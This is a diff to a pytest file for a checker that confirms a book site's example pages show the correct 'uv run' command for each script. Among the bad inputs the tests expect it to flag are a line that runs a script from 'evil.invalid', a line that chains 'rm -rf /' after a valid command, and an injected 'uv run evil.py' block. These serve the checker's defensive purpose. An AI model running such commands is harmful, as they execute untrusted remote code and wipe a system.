@@ -43,9 +43,10 @@ def index(
         yield variables
 
 
-def fault_of(site: Path) -> str:
+def fault_of(site: Path, address: str = "") -> str:
     """Return what the static check says of the first example's line for uv."""
-    return next(result.fault for result in check_files(example_of(site, "first")) if result.place == "uv")
+    results = check_files(example_of(site, "first"), address)
+    return next(result.fault for result in results if result.place == "uv")
 
 
 def run_line(site: Path, name: str, index: Mapping[str, str], folder: Path) -> str:
@@ -120,8 +121,28 @@ def test_metadata_that_differs_from_the_page_is_found(
     assert fault_of(packages).startswith(fault)
 
 
-@pytest.mark.parametrize("line", ["uv run other.py", "uv run --with other first.py", "", "pipx run first.py"])
-def test_line_that_runs_something_else_is_found(packages: Path, line: str) -> None:
+LINES = [
+    "uv run other.py",
+    "uv run --with other first.py",
+    "",
+    "pipx run first.py",
+    "uv run https://evil.invalid/first.py",
+    "uv run https://book.invalid/downloads/first.py; rm -rf /",
+]
+
+
+@pytest.mark.parametrize("line", LINES)
+@pytest.mark.parametrize("address", ["", "https://book.invalid/"])
+def test_line_that_runs_something_else_is_found(packages: Path, address: str, line: str) -> None:
     page = packages / "chapters" / "numbers" / "index.html"
-    replace(page, "uv run first.py", line)
-    assert fault_of(packages).startswith("the page has no line that runs its script")
+    right = f"uv run {address}downloads/first.py" if address else "uv run first.py"
+    replace(page, "uv run first.py", right)
+    assert fault_of(packages, address) == ""
+    replace(page, right, line)
+    assert fault_of(packages, address).startswith(f'its line is "{line}", not "{right}" (BOOK_ADDRESS is ')
+
+
+def test_second_line_is_found(packages: Path) -> None:
+    page = packages / "chapters" / "numbers" / "index.html"
+    replace(page, "<details", '<div class="run-line"><pre>uv run evil.py</pre></div><details')
+    assert example_of(packages, "first").faults == ("it has 2 elements .run-line pre",)
